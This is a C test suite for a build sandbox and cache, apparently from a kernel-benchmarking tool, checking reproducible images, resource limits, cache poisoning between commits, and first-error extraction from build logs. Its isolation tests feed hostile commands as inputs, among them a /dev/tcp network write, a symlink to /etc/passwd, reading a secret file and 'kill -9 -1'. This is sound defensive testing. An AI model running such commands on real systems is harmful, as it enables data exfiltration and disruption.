/* SPDX-License-Identifier: GPL-2.0-or-later */
/* Program builds in the real sandbox, the cache, and reading the first error out of a log. */
#include "kernels/build-internal.h"
#include "lib/fs.h"
#include "lib/proc.h"
#include "tests/tap.h"

#include <signal.h>
#include <sys/wait.h>

static char *top, *work, *state, *cache;
static int cancel_now;

static char *commit(const char *script)
{
	_cleanup_free_ char *full =
		xasprintf("export GIT_AUTHOR_NAME=A GIT_AUTHOR_EMAIL=a@example.org GIT_COMMITTER_NAME=A "
			  "GIT_COMMITTER_EMAIL=a@example.org GIT_CONFIG_GLOBAL=/dev/null\nset -e\n%s\n"
			  "git add -A; git commit -q --allow-empty -m x; git rev-parse HEAD",
			  script);
	_cleanup_buf_ struct buf out = {0};

	if (proc_ok(ARGV("sh", "-c", full), work, &out) < 0)
		printf("# %s\n", err_msg());
	return xstrndup(buf_str(&out), strcspn(buf_str(&out), "\n"));
}

static struct build_request request(const char *oid, const char *command)
{
	static char *git_dir;

	free(git_dir);
	git_dir = xasprintf("%s/.git", work);
	return (struct build_request){.kind = BUILD_PROGRAM,
				      .tree = "t",
				      .kconfig = "program",
				      .git_dir = git_dir,
				      .commit = oid,
				      .command = command,
				      .artefact = "prog",
				      .state_dir = state,
				      .cache_dir = cache,
				      .jobs = 1,
				      .timeout_s = 60};
}

static int run(const struct build_request *q, struct build_result *ret)
{
	int r = build_commit(q, ret);

	if (r < 0)
		printf("# %s\n", err_msg());
	else if (ret->error)
		printf("# %s: %s\n", build_state_word(ret->state), ret->error);
	return r;
}

/* Builds command at oid; wants that state, and the words in the error. */
static void wants(const char *oid, const char *command, const char *want, const char *words, const char *name)
{
	struct build_result b = {0};
	struct build_request q = request(oid, command);

	run(&q, &b);
	ok(streq(build_state_word(b.state), want) && (!words || (b.error && strstr(b.error, words))), "%s", name);
	build_result_release(&b);
}

static bool is_cached(const struct build_request *q)
{
	bool ready = false;

	return build_ready(q, (char *[]){(char *)q->commit}, 1, &ready) == 0 && ready;
}

static void test_good(const char *one, const char *comment)
{
	_cleanup_free_ char *other = xasprintf("%s/other", top), *other_cache = xasprintf("%s/other-cache", top);
	struct build_result a = {0}, b = {0};
	struct build_request q = request(one, NULL);

	ok(!is_cached(&q), "nothing is cached at first");
	is_int(run(&q, &a), 0, "builds");
	ok(a.state == BUILD_OK && !a.cached && fs_exists(a.image_path), "ok, and the program is kept");
	ok(a.log_path && fs_exists(a.log_path), "so is the log");
	ok(a.isolated, "in a box");
	ok(is_cached(&q), "now it is cached");
	run(&q, &b);
	ok(b.cached && streq(a.image_hash, b.image_hash) && streq(a.image_path, b.image_path),
	   "the second time it comes from there");
	build_result_release(&b);
	q.state_dir = other;
	q.cache_dir = other_cache;
	run(&q, &b);
	ok(!b.cached && streq(a.image_hash, b.image_hash),
	   "another state folder gives the same image, __FILE__ and __DATE__ included");
	build_result_release(&b);
	q = request(comment, NULL);
	run(&q, &b);
	ok(!b.cached && streq(a.image_hash, b.image_hash), "a new comment gives the same image");
	build_result_release(&b);
	build_result_release(&a);
}

static void test_bad(const char *one)
{
	_cleanup_free_ char *broken = commit("echo 'int main(void) { return x; }' >main.c"),
			    *secret = xasprintf("%s/secret", top);
	struct build_result b = {0};
	struct build_request q = request(broken, NULL);

	run(&q, &b);
	ok(b.state == BUILD_BROKEN && b.error && startswith(b.error, "main.c:1:"),
	   "a broken commit names file and line");
	build_result_release(&b);
	run(&q, &b);
	ok(b.state == BUILD_BROKEN && b.cached && b.error, "that it is broken is kept");
	ok(!is_cached(&q), "but is no image");
	build_result_release(&b);
	wants(one, "true", "broken", "was not made", "an artefact that was not made");
	wants(one, "ln -s /etc/passwd prog", "broken", "leads out", "an artefact that leads out of the worktree");
	wants(one, "mkfifo prog", "broken", "neither", "an artefact that would never end");
	wants(one, "echo x >/etc/kperfbot-was-here", "broken", "tried to write outside",
	      "writing outside is refused and named");
	wants(one, "bash -c 'echo x >/dev/tcp/192.0.2.1/80'", "broken", "tried to reach the network",
	      "so is the network");
	fs_write_atomic(secret, "s", 1);
	{
		_cleanup_free_ char *look = xasprintf("cat %s && touch prog", secret);

		wants(one, look, "broken", "No such file", "our own folders are not to be seen");
	}
	setenv("KPERFBOT_TEST_SECRET", "1", 1);
	wants(one, "test -z \"$KPERFBOT_TEST_SECRET\" && touch prog", "ok", NULL, "nor is our environment");
	wants(one, "kill -9 -1; echo killed >prog", "ok", NULL, "it can kill nobody but itself");
	wants(one, "printf 'a.c:1:1: error: \\033[2J\\007\\n'; false", "broken", "\\x1b[2J",
	      "control characters are shown as text");
	wants(one, "echo 'x: No space left on device'; false", "broken", "No space",
	      "who only says that the disk is full is not tried for ever");
}

static void test_limits(const char *one)
{
	struct build_request q = request(one, "sleep 60");
	struct build_result b = {0};

	q.timeout_s = 0.5;
	run(&q, &b);
	ok(b.state == BUILD_INFRA && b.limit && strstr(b.error, "time limit"),
	   "a build that takes too long is stopped");
	build_result_release(&b);
	q = request(one, "head -c 900000000 /dev/zero | tail -c 800000000 >/dev/null; sleep 30");
	q.max_memory = 200 << 20;
	run(&q, &b);
	ok(b.state == BUILD_INFRA && b.limit && strstr(b.error, "memory"), "so is one that takes too much memory");
	build_result_release(&b);
	q = request(one, "i=0; while [ $i -lt 1500 ]; do sleep 30 & i=$((i+1)); done; wait");
	run(&q, &b);
	ok(b.state == BUILD_INFRA && b.limit && strstr(b.error, "processes"),
	   "so is one that starts too many processes");
	build_result_release(&b);
	q = request(one, "sleep 30");
	cancel_now = 1;
	q.cancel = &cancel_now;
	is_int(build_commit(&q, &b), -ECANCELED, "and one that we do not want any more");
	wants(one, NULL, "ok", NULL, "the worktree is fine afterwards");
}

/* Builders killed at random points: the next one gets the same image. */
static void test_killed(void)
{
	_cleanup_free_ char *oid = commit("git checkout -q HEAD~1 -- main.c; echo >new");
	struct build_request q = request(oid, "sleep 0.1; make; sleep 0.1");
	_cleanup_free_ char *hash = NULL, *builds = xasprintf("%s/builds", cache), *again = NULL;
	struct build_result b = {0};
	int same = 0, rounds = 8;

	run(&q, &b);
	hash = xstrdup(b.image_hash);
	again = xstrdup(b.image_path);
	*strrchr(again, '/') = 0;
	build_result_release(&b);
	for (int i = 0; i < rounds; i++) {
		pid_t pid;

		fs_rm_rf(again);
		pid = fork();
		if (!pid)
			_exit(build_commit(&q, &b) != 0);
		usleep(40000 * i);
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
		run(&q, &b);
		same += streq(b.image_hash, hash);
		build_result_release(&b);
	}
	is_int(same, rounds, "killed at %d points, the next build gives the same image", rounds);
}

static void test_cache(const char *one)
{
	struct build_request q = request(one, NULL);
	struct build_result b = {0};
	_cleanup_free_ char *image = NULL;
	int n;

	run(&q, &b);
	image = xstrdup(b.image_path);
	build_result_release(&b);
	fs_write_atomic(image, "", 0);
	run(&q, &b);
	ok(b.state == BUILD_OK && !b.cached && fs_size(b.image_path) > 0, "a torn image in the cache is made again");
	build_result_release(&b);
	n = build_cache_prune(cache, 1);
	ok(n > 3 && !is_cached(&q), "pruning to nothing removed all %d builds", n);
	is_int(build_cache_prune(cache, 1), 0, "twice is fine");
	q.artefact = "../x";
	is_int(build_commit(&q, &b), -EINVAL, "an artefact outside is refused");
	q = request(one, NULL);
	q.tree = "../x";
	is_int(build_commit(&q, &b), -EINVAL, "so is a tree name that is a path");
	q = request("0123456789012345678901234567890123456789", NULL);
	is_int(build_commit(&q, &b), -ENOENT, "and a commit that is not there");
}

static void test_folder(const char *one)
{
	struct build_request q =
		request(one, "mkdir -p prog/b && echo 1 >prog/a && echo 2 >prog/b/c && ln -s a prog/l");
	struct build_result a = {0}, b = {0};
	_cleanup_free_ char *file = NULL;

	run(&q, &a);
	file = a.image_path ? xasprintf("%s/b/c", a.image_path) : xstrdup("");
	ok(a.state == BUILD_OK && fs_size(file) == 2, "a folder can be the artefact");
	q.command = "mkdir -p prog/b && echo 1 >prog/a && echo 3 >prog/b/c && ln -s a prog/l";
	run(&q, &b);
	ok(b.image_hash && !streq(a.image_hash, b.image_hash), "its hash is that of what is in it");
	build_result_release(&a);
	build_result_release(&b);
}

/* The kernel's way through the builder on a tree that only acts like a kernel; the real one has a test of its own. */
static void test_kernel_steps(void)
{
	_cleanup_free_ char *
		one = commit(
		       "git rm -qrf .; cat >Makefile <<'EOT'\n"
		       "tinyconfig:\n\techo CONFIG_FIRST=y >$(O)/.config\n"
		       "olddefconfig:\n\techo x >>$(O)/configured\n\tsed -i '/CONFIG_PVH/d;s/CONFIG_HZ_250=y/CONFIG_HZ_250=m/' "
		       "$(O)/.config\n\tif [ -f Kconfig.extra ]; then cat Kconfig.extra >>$(O)/.config; fi\n"
		       "bzImage:\n\tmkdir -p $(O)/arch/x86/boot\n\tcat main.c $(O)/.config >$(O)/arch/x86/boot/bzImage\n"
		       "\twc -l <$(O)/configured >$(O)/System.map\n\tcp /bin/sh $(O)/vmlinux\n\t! touch main.c\n"
		       "modules:\n\ttrue\nmodules_install:\n\tmkdir -p $(INSTALL_MOD_PATH)/lib/modules/1\n"
		       "\techo m >$(INSTALL_MOD_PATH)/lib/modules/1/m.ko\nEOT\necho 1 >main.c"),
	       *two = commit("echo 2 >main.c"), *three = commit("echo CONFIG_EXTRA=y >Kconfig.extra"),
	       *four = commit("echo 'bzImage:\n\tfalse' >>Makefile"), *dir = NULL, *map = NULL, *modules = NULL,
	       *debug = NULL, *no_debug = NULL;
	_cleanup_buf_ struct buf b = {0};
	struct build_result r[5] = {0};
	const char *oid[] = {one, two, three, four, two};

	for (size_t i = 0; i < ARRAY_SIZE(r); i++) {
		struct build_request q = request(oid[i], NULL);

		q.kind = BUILD_KERNEL;
		q.kconfig = i == 4 ? "vm-min-lines" : "vm-min";
		run(&q, &r[i]);
	}
	ok(r[0].state == BUILD_OK && endswith(r[0].image_path, "/bzImage") && fs_size(r[0].image_path) > 0,
	   "an image is kept");
	ok(r[0].warnings && strstr(r[0].warnings, "CONFIG_PVH: wanted y, is off\n") &&
	   strstr(r[0].warnings, "CONFIG_HZ_250: wanted y, is m\n"), "options that did not survive are named");
	ok(r[0].warnings && !strstr(r[0].warnings, "CONFIG_NET:"), "and only those");
	ok(r[1].image_hash && !streq(r[0].image_hash, r[1].image_hash) && streq(r[0].config_hash, r[1].config_hash),
	   "another source, another image, the same config");
	ok(r[0].clean && !r[1].clean && !r[2].clean, "only the first one starts from nothing");
	ok(r[2].config_hash && !streq(r[1].config_hash, r[2].config_hash), "a Kconfig change is taken up");
	dir = xstrndup(r[1].image_path, strrchr(r[1].image_path, '/') - r[1].image_path);
	map = xasprintf("%s/System.map", dir);
	modules = xasprintf("%s/modules.tar", dir);
	ok(fs_read(map, 0, &b) == 0 && atoi(buf_str(&b)) == 1, "nothing is configured twice for a change in a .c file");
	ok(fs_size(modules) > 0, "modules are kept beside the image");
	debug = r[4].image_path ? xasprintf("%.*s/vmlinux.debug", (int)strlen(r[4].image_path) - 8, r[4].image_path)
				: xstrdup("");
	no_debug = xasprintf("%s/vmlinux.debug", dir);
	ok(fs_size(debug) > 0 && !fs_exists(no_debug), "so is debug information, where the config has it");
	ok(r[3].state == BUILD_BROKEN && r[3].error && strstr(r[3].error, "***"), "a failing make is broken");
	for (size_t i = 0; i < ARRAY_SIZE(r); i++)
		build_result_release(&r[i]);
}

static char *child_of(const char *parent, const char *script)
{
	_cleanup_free_ char *full = xasprintf("git checkout -q %s; %s", parent, script);

	return commit(full);
}

/* Builds oid in a tree; true when its image holds the words. What ret holds of the last build is released. */
static bool image_has(const char *tree, const char *oid, const char *words, struct build_result *ret)
{
	struct build_request q = request(oid, NULL);
	_cleanup_buf_ struct buf b = {0};

	build_result_release(ret);
	q.kind = BUILD_KERNEL;
	q.kconfig = "vm-min";
	q.tree = tree;
	run(&q, ret);
	return ret->image_path && fs_read(ret->image_path, 0, &b) == 0 && strstr(buf_str(&b), words);
}

/* What is compiled are the commit's own blobs, whatever was checked out before. */
static void test_sources(const char *base)
{
	_cleanup_free_ char *attributes = child_of(base, "printf 'a\\nb\\n' >main.c; "
							 "echo '* text eol=crlf ident' >.gitattributes"),
			    *plain = child_of(base, "printf 'a\\nb\\n' >main.c"), *extra = NULL,
			    *at = xasprintf("%s/worktrees/three-vm-min/index/at", state),
			    *planted = xasprintf("%s/worktrees/three-vm-min/src/GNUmakefile", state), *locked = NULL,
			    *below = NULL;
	struct build_result r = {0};

	ok(image_has("three", attributes, "honest\na\nb\n", &r), "a tree's attributes change no file");
	ok(image_has("three", plain, "honest\na\nb\n", &r), "nor for the next commit");
	extra = child_of(base, "echo 5 >main.c");
	if (getuid() == 0) { /* as a checkout that was killed leaves it */
		ok(unlink(at) == 0 && fs_write_atomic(planted, "bzImage:\n\tfalse\n", 16) == 0,
		   "files of a checkout that was killed");
		ok(image_has("three", extra, "honest\n5\n", &r) && !fs_exists(planted), "do not outlive it");
	}
	locked = child_of(base, "echo >l1; echo >l2; sed -i 's/^bzImage:/&\\n\\t"
				"echo >$(O)\\/secret; chmod 0 $(O)\\/secret; mkfifo $(O)\\/pipe/' Makefile");
	below = child_of(locked, "echo 6 >main.c");
	ok(image_has("three", locked, "honest\n", &r), "a commit that locks what it leaves");
	ok(image_has("three", below, "honest\n6\n", &r) && !r.clean, "does not lock out its descendants");
	if (getuid() == 0) {
		_cleanup_free_ char *child = child_of(below, "echo 7 >main.c"),
				    *spoil = xasprintf("chmod 0 %s/objects/*/o", cache);

		proc_ok(ARGV("sh", "-c", spoil), NULL, NULL);
		ok(!image_has("three", child, "7", &r) && r.state == BUILD_INFRA && !r.limit,
		   "objects that cannot be copied are our trouble");
		for (int i = 0; i < 20 && !image_has("three", child, "7", &r); i++)
			;
		ok(r.state == BUILD_OK, "and are gone the next time");
	}
	build_result_release(&r);
}

/* A log proves nothing: tools that it misses are there, and the disk is not full. */
static void test_lying_log(void)
{
	_cleanup_free_ char *lies = commit("git checkout -q --orphan lies; git rm -qrf .; printf 'tinyconfig:\\n\\t"
					   "echo sh: 1: flex: not found; false\\n' >Makefile");
	struct build_result r = {0};

	image_has("lies", lies, "", &r);
	ok(r.state == BUILD_BROKEN, "a log that only says that a tool is missing is no trouble of ours");
	build_result_release(&r);
}

/* Objects flow from a commit to its descendants in the same tree, and nowhere else. */
static void test_flow(void)
{
	static const char kernel[] = "git checkout -q --orphan flow; git rm -qrf .; cat >Makefile <<'EOT'\n"
				     "tinyconfig:\n\ttouch $(O)/.config\nolddefconfig:\n\ttrue\n"
				     "bzImage:\n\ttest -f $(O)/obj.o || echo honest >$(O)/obj.o\n"
				     "\tmkdir -p $(O)/arch/x86/boot\n"
				     "\tcat $(O)/obj.o main.c >$(O)/arch/x86/boot/bzImage\n"
				     "\techo >$(O)/System.map\nEOT\necho 0 >main.c",
			  hostile[] = "echo >e1; echo >e2; echo >e3; sed -i 's/^bzImage:/&\\n\\t"
				      "echo evil >$(O)\\/obj.o; rm -rf $(O)\\/.git; "
				      "git init -q $(O) 2>\\/dev\\/null || mkdir $(O)\\/.git/' Makefile";
	_cleanup_free_ char *base = commit(kernel), *evil = child_of(base, hostile),
			    *sibling = child_of(base, "echo 1 >main.c"),
			    *below = child_of(evil, "git checkout -q HEAD~ -- Makefile; echo 2 >main.c"),
			    *same = child_of(base, "echo 3 >main.c"),
			    *take = xasprintf("git checkout -q %s -- .", evil),
			    *twin = child_of(same, take), /* the files of the hostile commit, with other ancestors */
			    *late = NULL, *after = NULL;
	struct build_result r = {0};

	ok(image_has("one", base, "honest", &r) && r.clean, "from nothing");
	ok(image_has("one", evil, "evil", &r) && !r.clean, "a commit may do to its own objects what it wants");
	ok(image_has("one", sibling, "honest\n1", &r) && !r.clean, "but its sibling gets those of their parent");
	ok(image_has("one", below, "evil\n2", &r) && !r.clean, "its descendants get them");
	ok(image_has("two", sibling, "honest\n1", &r) && !r.cached,
	   "another tree does not take a build that went on from something");
	ok(image_has("two", base, "honest", &r) && r.cached, "but one that was made from nothing");
	ok(image_has("two", twin, "evil", &r) && !r.cached, "nor one with the same files");
	ok(image_has("one", twin, "evil", &r) && r.cached, "in one tree it is taken where its start is an ancestor");
	late = child_of(base, "sed -i 's/^bzImage:/&\\n\\t"
			      "echo late >$(O)\\/obj.o; touch -d 2099-01-01 $(O)\\/obj.o/; "
			      "s/^\\ttrue/\\tsed -i \\/CONFIG_PVH=\\/d $(O)\\/.config/' Makefile");
	after = child_of(late, "git checkout -q HEAD~ -- Makefile; echo 4 >main.c");
	ok(image_has("one", late, "late", &r) && r.warnings && strstr(r.warnings, "CONFIG_PVH") &&
	   strstr(r.warnings, "from the future"), "files from the future are named, beside options that got lost");
	ok(image_has("one", after, "honest\n4", &r), "and nobody goes on from them");
	build_result_release(&r);
	test_sources(base);
}

/* Functions at multiples of 64 bytes: the tree's own option, or the compiler's; a build of its own in any case. */
static void test_align(void)
{
	_cleanup_free_ char *
		flag = commit(
		       "git rm -qrf .; cat >Makefile <<'EOT'\n"
		       "tinyconfig:\n\techo CONFIG_FIRST=y >$(O)/.config\nolddefconfig:\n\ttrue\n"
		       "bzImage:\n\tmkdir -p $(O)/arch/x86/boot\n\techo 'flags:$(KCFLAGS)' >$(O)/arch/x86/boot/bzImage\n"
		       "\tgrep ALIGN_64B $(O)/.config >>$(O)/arch/x86/boot/bzImage || true\n"
		       "\techo >$(O)/System.map\nmodules:\n\ttrue\nmodules_install:\n\ttrue\nEOT\n"),
	       *option = commit("mkdir lib; echo 'config DEBUG_FORCE_FUNCTION_ALIGN_64B' >lib/Kconfig.debug"),
	       *program = commit("git rm -qrf .; printf 'prog:\\n\\techo \"$$KCFLAGS\" >prog\\n' >Makefile");
	struct build_request q = request(flag, NULL);
	struct build_result r[5] = {0};
	static const char *const want[] = {"flags:\n", "flags:-falign-functions=64\n",
					   "flags:\nCONFIG_DEBUG_FORCE_FUNCTION_ALIGN_64B=y\n",
					   "-falign-functions=64\n", "\n"};
	char *oids[] = {flag, option, program, (char *)"0123456789012345678901234567890123456789"};
	bool ready[4] = {0};

	for (size_t i = 0; i < ARRAY_SIZE(r); i++) {
		_cleanup_buf_ struct buf b = {0};

		q = request(i < 2 ? flag : i == 2 ? option : program, NULL);
		q.kind = i < 3 ? BUILD_KERNEL : BUILD_PROGRAM;
		q.kconfig = i < 3 ? "vm-min" : "program";
		q.tree = i < 3 ? "aligned" : "t";
		q.align_functions = i > 0 && i < 4;
		run(&q, &r[i]);
		if (!ok(r[i].state == BUILD_OK && fs_read(r[i].image_path, 0, &b) == 0 && streq(buf_str(&b), want[i]),
			"aligned build %zu", i))
			printf("# got '%s'\n", buf_str(&b));
	}
	ok(!r[0].clean, "another tree goes on from what was built from nothing of a commit that is its own ancestor");
	ok(r[1].clean && r[4].clean && !streq(r[0].image_path, r[1].image_path),
	   "in folders and under keys of their own");
	q = request(NULL, NULL);
	is_int(build_ready(&q, oids, 4, ready), 0, "which are finished");
	ok(!ready[0] && !ready[1] && ready[2] && !ready[3],
	   "the program; kernels are none of this kind, and one is unknown");
	q.align_functions = true;
	is_int(build_ready(&q, oids, 4, ready), -EINVAL, "not asked for aligned ones");
	for (size_t i = 0; i < ARRAY_SIZE(r); i++)
		build_result_release(&r[i]);
}

static void test_errors(void)
{
	static const struct { const char *log, *want; bool kernel, infra; } cases[] = {
		{"  CC net/core/scm.o\n../src/net/core/scm.c:7:1: error: expected ';'\nmake[3]: *** [x] Error 1\n",
		 "net/core/scm.c:7:1: error: expected ';'", true, false},
		{"make[1]: *** No rule to make target 'x', needed by 'y'.  Stop.\n",
		 "make[1]: *** No rule to make target 'x', needed by 'y'.  Stop.", true, false},
		{"ld: net/unix/af_unix.o: in function `f':\naf_unix.c:(.text+0x1): undefined reference to `scm_x'\n",
		 "af_unix.c:(.text+0x1): undefined reference to `scm_x'", true, false},
		{"a.s: Assembler messages:\na.s:3: Error: no such instruction: `foo'\n",
		 "a.s:3: Error: no such instruction: `foo'",
		 true, false},
		{"/bin/sh: 1: flex: not found\nmake[1]: *** [x] Error 127\n",
		 "'flex' is missing on this machine; install it", true, true},
		{"/bin/sh: 1: flex: not found\nmake[1]: *** [x] Error 127\n",
		 "/bin/sh: 1: flex: not found (make[1]: *** [x] Error 127)", false, false},
		{"cat: sub/x: No such file or directory\nmake: *** [Makefile:2: x] Error 1\n",
		 "cat: sub/x: No such file or directory (make: *** [Makefile:2: x] Error 1)", false, false},
		{"  CC x.o\nmake[2]: *** [x] Error 1\nmake[1]: *** [y] Error 2\n", "make[2]: *** [x] Error 1", true,
		 false},
		{"fatal: not a git repository\nStopping at filesystem boundary (X not set).\nmake: *** [x] Error 128\n",
		 "fatal: not a git repository (make: *** [x] Error 128)", false, false},
		{"fatal: unable to write: No space left on device\n", "fatal: unable to write: No space left on device",
		 true, true},
		{"something\nlast words\n\n", "last words", true, false},
		{"", "", true, false},
	};

	for (size_t i = 0; i < ARRAY_SIZE(cases); i++) {
		bool infra;
		_cleanup_free_ char *got = build_first_error(cases[i].log, cases[i].kernel, &infra);

		is_str(got, cases[i].want, "error line %zu", i);
		ok(infra == cases[i].infra, "whose fault it is");
	}
}

int main(void)
{
	char tmp[] = "/tmp/kperfbot-build-XXXXXX";
	_cleanup_free_ char *one = NULL, *comment = NULL;

	if (box_check() < 0)
		return skip_all("%s", err_msg());
	top = mkdtemp(tmp);
	work = xasprintf("%s/work", top);
	state = xasprintf("%s/state", top);
	cache = xasprintf("%s/cache", top);
	fs_mkdir_p(work);
	proc_ok(ARGV("git", "init", "-q", "-b", "main", "."), work, NULL);
	one = commit("printf 'prog: main.c\\n\\tgcc -g -O2 -o prog $(CURDIR)/main.c\\n' >Makefile\n"
		     "printf '#include <stdio.h>\\nint main(void) { puts(__FILE__ __DATE__ __TIME__); return 0; }\\n' >main.c");
	comment = commit("echo '/* more words */' >>main.c");
	test_errors();
	test_good(one, comment);
	test_bad(one);
	test_folder(one);
	test_limits(one);
	test_killed();
	test_cache(one);
	test_kernel_steps();
	test_align();
	test_flow();
	test_lying_log();
	fs_rm_rf(top);
	free(top == tmp ? NULL : top);
	free(work);
	free(state);
	free(cache);
	return tap_done();
}
